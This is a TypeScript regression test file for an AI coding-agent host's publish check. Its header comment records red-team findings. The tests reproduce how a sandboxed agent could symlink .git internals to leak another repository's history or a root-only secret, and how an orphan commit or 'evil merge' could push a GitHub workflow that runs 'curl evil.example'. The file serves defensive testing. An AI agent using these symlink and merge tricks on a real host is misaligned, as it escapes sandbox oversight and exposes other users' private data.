/**
 * Found by the red-team review of the host's publish check: host git (as root) read the agent's
 * `.git` before copying the commits out, so symlinks there resolved on the host. A symlinked
 * `objects/pack` and `packed-refs` published another repository's history from the same Tackle
 * host; `.git/shallow` linked to a root-only file printed its lines into the push error (and the
 * public tracking comment); a root commit or an "evil merge" carried a workflow into the pushed
 * history unchecked. The tip and the pack are now read inside the sandbox, and every new commit's
 * tree is checked.
 */
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { checkPublishedChange } from "../../src/agent/policy/index.js";
import { isTackleError } from "../../src/errors/index.js";
import { createRepoCache, detectSandbox, type RepoCache, type SandboxMode, type Workspace } from "../../src/workspace/index.js";
import { git, makeRemote, removeDir, tempDir } from "../integration/workspace/helpers.js";

const support = await detectSandbox();
const mode: SandboxMode = support.available ? "bwrap" : "off";
const verify = (change: Parameters<typeof checkPublishedChange>[1]) => checkPublishedChange({}, change);
const WORKFLOW =
  "mkdir -p .github/workflows && printf 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/evil.yml";

describe("the publish check reads nothing of the agent's .git on the host", () => {
  let base: string;
  let home: string;
  let secretFile: string;
  let remote: Awaited<ReturnType<typeof makeRemote>>;
  let victim: Awaited<ReturnType<typeof makeRemote>>;
  let cache: RepoCache;
  const open: Workspace[] = [];
  let n = 0;
  const prepare = async (repoKey = "github.com/acme/widgets", url?: string): Promise<Workspace> => {
    n += 1;
    const workspace = await cache.prepare({
      jobId: `rt-${n}`,
      remoteUrl: url ?? remote.remote,
      repoKey,
      branch: `tackle/issue-${100 + n}`,
      startFrom: "base",
      sandbox: mode,
    });
    open.push(workspace);
    return workspace;
  };
  const sh = async (workspace: Workspace, lines: string[]) => {
    const result = await workspace.exec.run(["set -e", ...lines].join("\n"), { timeoutMs: 60_000 });
    expect(result.exitCode, result.output).toBe(0);
  };
  const pushOf = (workspace: Workspace) => workspace.push({ verify, token: "t" }).catch((error: unknown) => error);

  beforeAll(async () => {
    base = tempDir("publish-reads");
    chmodSync(base, 0o755);
    home = path.join(base, "home");
    remote = await makeRemote(base);
    mkdirSync(path.join(base, "v"));
    victim = await makeRemote(path.join(base, "v"));
    await victim.push({ "SECRET.md": "victim's private data: hunter2\n" }, "private");
    cache = createRepoCache({ home });
    // A file only root may read, outside anything a sandbox sees.
    mkdirSync(path.join(base, "root-only"), { mode: 0o700 });
    secretFile = path.join(base, "root-only", "secret");
    writeFileSync(secretFile, "TOPSECRET=root-only-file-content-1234567890\nSECOND-LINE-SECRET\n", { mode: 0o600 });
  });
  afterAll(async () => {
    for (const workspace of open) await workspace.dispose().catch(() => undefined);
    removeDir(base);
  });

  it("objects/pack and packed-refs symlinked into another repository's mirror publish nothing of it", async () => {
    const other = await prepare("github.com/other/victim", victim.remote);
    await other.dispose();
    const workspace = await prepare();
    await sh(workspace, [
      "M=$(dirname $(dirname $PWD))/mirrors/github.com/other/victim.git",
      "br=$(git symbolic-ref --short HEAD)",
      "rm -rf .git/objects/pack && ln -s $M/objects/pack .git/objects/pack",
      "ln -sf $M/packed-refs .git/packed-refs",
      "rm -f .git/refs/heads/main",
      'printf "ref: refs/heads/main\\n" > .git/refs/heads/$br.tmp && mv .git/refs/heads/$br.tmp .git/refs/heads/$br',
    ]);
    const result = await pushOf(workspace);
    expect(isTackleError(result, "push_refused"), String(result)).toBe(true);
    expect(await git(remote.remote, ["branch", "--list", workspace.branch])).toBe("");
    expect(await git(remote.remote, ["log", "--all", "--format=%s"])).not.toContain("private");
  });

  it(".git/shallow and info/grafts linked to a root-only file: nothing of it comes back", async () => {
    const workspace = await prepare();
    await sh(workspace, [
      "echo x >> README.md && git commit -qam x",
      `ln -s ${secretFile} .git/shallow`,
      `mkdir -p .git/info && ln -s ${secretFile} .git/info/grafts`,
    ]);
    const ahead = await workspace.commitsAhead();
    const result = await pushOf(workspace);
    const said = `${ahead} ${result instanceof Error ? result.message : JSON.stringify(result)}`;
    expect(said).not.toContain("TOPSECRET");
    expect(said).not.toContain("SECOND-LINE");
    expect(ahead).toBe(1);
    expect(isTackleError(result)).toBe(false);
  });

  it("a root commit carrying a workflow, merged in with -s ours, is refused", async () => {
    const workspace = await prepare();
    await sh(workspace, [
      "br=$(git symbolic-ref --short HEAD)",
      "git checkout -q --orphan evil",
      "git rm -rq --cached . && rm -rf ./*",
      WORKFLOW,
      "git add -A && git commit -qm orphan",
      "git checkout -q -f $br",
      "git merge -q -s ours --allow-unrelated-histories -m merge evil",
      "echo ok >> README.md && git commit -qam honest",
    ]);
    const result = await pushOf(workspace);
    expect(isTackleError(result, "push_refused")).toBe(true);
    expect((result as Error).message).toContain(".github/workflows/evil.yml");
    expect(await git(remote.remote, ["branch", "--list", workspace.branch])).toBe("");
  });

  it("an 'evil merge' whose own tree adds a workflow, removed again by a second merge, is refused", async () => {
    const workspace = await prepare();
    await sh(workspace, [
      "br=$(git symbolic-ref --short HEAD)",
      "git checkout -qb side && echo s > side.txt && git add side.txt && git commit -qm side",
      "git checkout -q $br && echo m > main.txt && git add main.txt && git commit -qm main",
      "git merge -q --no-commit side",
      `${WORKFLOW} && git add -A && git commit -qm 'Merge side'`,
      "git checkout -qb side2 HEAD~1 && echo t > side2.txt && git add side2.txt && git commit -qm side2",
      "git checkout -q $br && git merge -q --no-commit side2 && git rm -q .github/workflows/evil.yml && git commit -qm 'Merge side2'",
    ]);
    const result = await pushOf(workspace);
    expect(isTackleError(result, "push_refused")).toBe(true);
    expect((result as Error).message).toContain(".github/workflows/evil.yml");
  });

  it("an honest merge of two branches of its own still goes through", async () => {
    const workspace = await prepare();
    await sh(workspace, [
      "br=$(git symbolic-ref --short HEAD)",
      "git checkout -qb side && echo s > side.txt && git add side.txt && git commit -qm side",
      "git checkout -q $br && echo m > main.txt && git add main.txt && git commit -qm main",
      "git merge -q -m merged side",
    ]);
    const result = await pushOf(workspace);
    expect(isTackleError(result), String(result)).toBe(false);
    expect(await git(remote.remote, ["show", `${workspace.branch}:side.txt`])).toBe("s");
  });
});
